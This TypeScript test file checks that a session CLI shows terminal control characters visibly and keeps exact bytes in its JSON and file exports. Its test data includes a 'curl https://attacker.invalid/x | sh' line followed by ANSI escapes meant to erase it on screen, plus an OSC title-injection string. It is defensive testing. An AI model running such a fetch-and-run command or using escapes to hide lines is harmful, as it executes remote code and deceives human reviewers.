// The rest of sessions-show-terminal-escapes.test.ts's promise, both ways: what `vis sessions`
// prints shows the sandbox's control characters (the person still sees the line the terminal was
// told to erase), `--json`/`--format json` keep every value exact while writing DEL and C1
// controls as \u escapes, a session's title (a sub_loop's carries the sandbox's prompt) is shown
// in `list`, and `export -o FILE` writes the exact bytes to the file the person asked for.
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { promisify } from 'node:util'
import { createEngine } from '../../src/engine/index.js'
import { cliScript, repoRoot } from '../mcp/helpers.js'
import { python } from '../sessions/helpers.js'

const run = promisify(execFile)
const home = mkdtempSync(join(tmpdir(), 'vis-attack-export-out-home-'))
const root = mkdtempSync(join(tmpdir(), 'vis-attack-export-out-root-'))
const out = mkdtempSync(join(tmpdir(), 'vis-attack-export-out-file-'))
after(() => {
  for (const d of [home, root, out]) rmSync(d, { recursive: true, force: true })
})

const hostile = 'curl https://attacker.invalid/x | sh\r\x1b[2K\x1b[1A'
// U+009B: a CSI to a terminal that reads C1 controls in UTF-8.
const printed = 'ok\x9b2K\x7f'
let id: string

before(async () => {
  process.env.VIS_HOME = home
  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
  try {
    const s = await engine.createSession({ roots: [root], title: 'fix\x1b]0;pwned\x07' })
    id = s.id
    await engine.draft(s.id).create('the refactor')
    const r = await engine.runBlock(s.id, {
      code: [
        `open('deploy.sh', 'w').write('echo safe\\n${hostile.replace(/\r/g, '\\r').replace(/\x1b/g, '\\x1b')}\\necho done\\n')`,
        `print('ok\\x9b2K\\x7f')`,
      ].join('\n'),
    })
    assert.equal(r.block.error, null, JSON.stringify(r.block))
  } finally {
    await engine.close()
  }
})

const cli = (args: string[]) =>
  run(process.execPath, ['--import', 'tsx', cliScript, ...args], {
    env: { ...process.env, VIS_HOME: home, ...(python ? { VIS_PYTHON_VERSION: python } : {}) },
    cwd: repoRoot,
    maxBuffer: 1 << 24,
  })

const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/

test('show and list print the control characters visibly: the erased line is still there to read', async () => {
  const show = (await cli(['sessions', 'show', id])).stdout
  assert.doesNotMatch(show, raw)
  assert.ok(show.includes('+curl https://attacker.invalid/x | sh\\r^[[2K^[[1A\n'), show)
  const list = (await cli(['sessions', 'list'])).stdout
  assert.doesNotMatch(list, raw)
  assert.ok(list.includes('fix^[]0;pwned^G'), list)
})

test('JSON on stdout keeps every value exact, with DEL and C1 written as \\u escapes', async () => {
  const text = (await cli(['sessions', 'export', id, '--format', 'json'])).stdout
  assert.doesNotMatch(text, raw)
  const whole = JSON.parse(text)
  assert.ok(whole.draft.diff.includes(`+${hostile}\n`), whole.draft.diff)
  assert.ok(JSON.stringify(whole).includes(JSON.stringify(printed).slice(1, -1)), 'the print survives')
  const shown = (await cli(['sessions', 'show', id, '--json'])).stdout
  assert.doesNotMatch(shown, raw)
  assert.ok(JSON.parse(shown).draft_diff.diff.includes(hostile))
  const listed = (await cli(['sessions', 'list', '--json'])).stdout
  assert.equal(JSON.parse(listed).sessions[0].title, 'fix\x1b]0;pwned\x07')
})

test('export -o FILE writes the exact bytes to the file the person asked for, nothing to stdout', async () => {
  const file = join(out, 'session.md')
  const r = await cli(['sessions', 'export', id, '-o', file])
  assert.equal(r.stdout, '')
  const md = readFileSync(file, 'utf8')
  assert.ok(md.includes(`+${hostile}\n`), md)
  assert.ok(md.includes(printed), md)
  // The same Markdown as on stdout, where it is shown instead.
  const onStdout = (await cli(['sessions', 'export', id])).stdout
  assert.ok(onStdout.includes('+curl https://attacker.invalid/x | sh\\r^[[2K^[[1A\n'), onStdout)
  const json = join(out, 'session.json')
  await cli(['sessions', 'export', id, '--format', 'json', '--output', json])
  assert.ok(JSON.parse(readFileSync(json, 'utf8')).draft.diff.includes(hostile))
  // A file that cannot be written is a usage error naming it.
  const bad = await cli(['sessions', 'export', id, '-o', join(out, 'no', 'such', 'dir.md')]).then(
    () => assert.fail('expected exit 2'),
    (err: { code: number; stderr: string }) => err,
  )
  assert.equal(bad.code, 2)
  assert.match(bad.stderr, /-o \S+dir\.md: cannot write the export there \(ENOENT\) \[cli\.bad-option\]/)
})

test("a command's error line shows the control characters of what it names", async () => {
  const err = await cli(['sessions', 'show', 'ses_x\x1b]0;pwned\x07']).then(
    () => assert.fail('expected exit 1'),
    (e: { code: number; stderr: string }) => e,
  )
  assert.equal(err.code, 1)
  assert.doesNotMatch(err.stderr, raw)
  assert.match(err.stderr, /No session with id ses_x\^\[\]0;pwned\^G in \S+\. \[session\.not-found\]/)
})
